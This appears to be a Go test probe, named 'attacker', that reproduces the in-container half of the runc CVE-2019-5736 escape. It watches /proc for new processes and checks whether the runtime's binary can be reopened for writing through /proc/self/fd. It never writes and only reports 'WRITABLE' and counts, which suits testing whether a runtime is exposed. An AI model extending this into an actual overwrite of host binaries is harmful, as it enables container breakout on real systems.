// attacker is the in-container half of runc CVE-2019-5736: it watches
// /proc for processes that appear in its PID namespace (the runtime's
// init during an exec is one, for a moment) and tries to open the binary
// each runs from, then to reopen it for writing once the process is gone,
// as the published exploit did. It only opens; it never writes.
//
// A binary of the container's own (same device as its root) is skipped:
// the container may write its own files. Anything else that opens for
// writing is the runtime's binary reachable from inside, and is printed
// as "WRITABLE". The last line counts what it saw.
package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"strconv"
	"syscall"
	"time"
)

func pids() []int {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	var out []int
	for _, n := range names {
		if p, err := strconv.Atoi(n); err == nil {
			out = append(out, p)
		}
	}
	return out
}

func main() {
	dur, err := time.ParseDuration(os.Args[1])
	if err != nil {
		fmt.Println("usage: attacker DURATION")
		os.Exit(2)
	}
	var root syscall.Stat_t
	if err := syscall.Stat("/", &root); err != nil {
		fmt.Println(err)
		os.Exit(2)
	}
	self := os.Getpid()
	seen := map[int]bool{}
	for _, p := range pids() {
		seen[p] = true
	}
	var fresh, denied, own, foreign, writable int
	for deadline := time.Now().Add(dur); time.Now().Before(deadline); {
		for _, p := range pids() {
			if seen[p] || p == self {
				continue
			}
			seen[p] = true
			fresh++
			f, err := os.Open(fmt.Sprintf("/proc/%d/exe", p))
			if err != nil {
				if errors.Is(err, fs.ErrPermission) {
					denied++
				}
				continue
			}
			var st syscall.Stat_t
			if syscall.Fstat(int(f.Fd()), &st) != nil || st.Dev == root.Dev {
				own++
				f.Close()
				continue
			}
			foreign++
			// The exploit's second step: the binary is busy while the
			// runtime runs it; once it exits, the open handle is reopened
			// for writing through /proc/self/fd.
			for i := 0; i < 100; i++ {
				w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
				if err == nil {
					fmt.Printf("WRITABLE pid %d dev %d ino %d\n", p, st.Dev, st.Ino)
					writable++
					w.Close()
					break
				}
				if !errors.Is(err, syscall.ETXTBSY) {
					break
				}
				time.Sleep(2 * time.Millisecond)
			}
			f.Close()
		}
	}
	fmt.Printf("fresh %d denied %d own %d foreign %d writable %d\n", fresh, denied, own, foreign, writable)
}
